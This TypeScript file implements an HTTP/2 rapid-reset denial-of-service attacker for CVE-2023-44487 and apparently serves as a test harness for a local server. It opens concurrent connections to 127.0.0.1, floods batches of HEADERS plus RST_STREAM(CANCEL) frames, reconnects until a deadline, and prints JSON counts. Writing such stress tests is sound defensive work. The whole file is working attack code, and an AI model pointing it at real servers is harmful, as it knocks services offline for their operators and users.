/**
 * A rapid-reset attacker (CVE-2023-44487) in a process of its own:
 * `node --import tsx rapid-reset.ts <port> <connections> <durationMs>`.
 * Each connection sends the preface, then HEADERS+RST_STREAM(CANCEL) pairs
 * as fast as the socket takes them, and reconnects whenever the server
 * closes it, until the duration ends. Prints one JSON line with its counts.
 */
import * as net from "node:net";
import { headers, PREFACE, rstStream, settings } from "../../helpers/raw-h2.js";

const [port, connections, durationMs] = process.argv.slice(2).map(Number) as [number, number, number];
const until = Date.now() + durationMs;
const counts = { pairs: 0, connections: 0 };
const request = { ":method": "GET", ":scheme": "http", ":path": "/info", ":authority": "x" };
const BATCH = 100;

function attackOnce(): Promise<void> {
  counts.connections++;
  return new Promise((resolve) => {
    const socket = net.connect(port, "127.0.0.1");
    let nextId = 1;
    const pump = () => {
      while (!socket.destroyed && Date.now() < until) {
        const frames: Buffer[] = [];
        for (let i = 0; i < BATCH; i++, nextId += 2) frames.push(headers(nextId, request, true), rstStream(nextId));
        counts.pairs += BATCH;
        if (!socket.write(Buffer.concat(frames))) return; // resumes on 'drain'
      }
      socket.end();
    };
    socket.on("connect", () => {
      socket.write(Buffer.concat([PREFACE, settings()]));
      pump();
    });
    socket.on("drain", pump);
    socket.resume();
    socket.on("error", () => {});
    socket.on("close", () => resolve());
  });
}

async function attacker(): Promise<void> {
  while (Date.now() < until) await attackOnce();
}

await Promise.all(Array.from({ length: connections }, attacker));
console.log(JSON.stringify(counts));
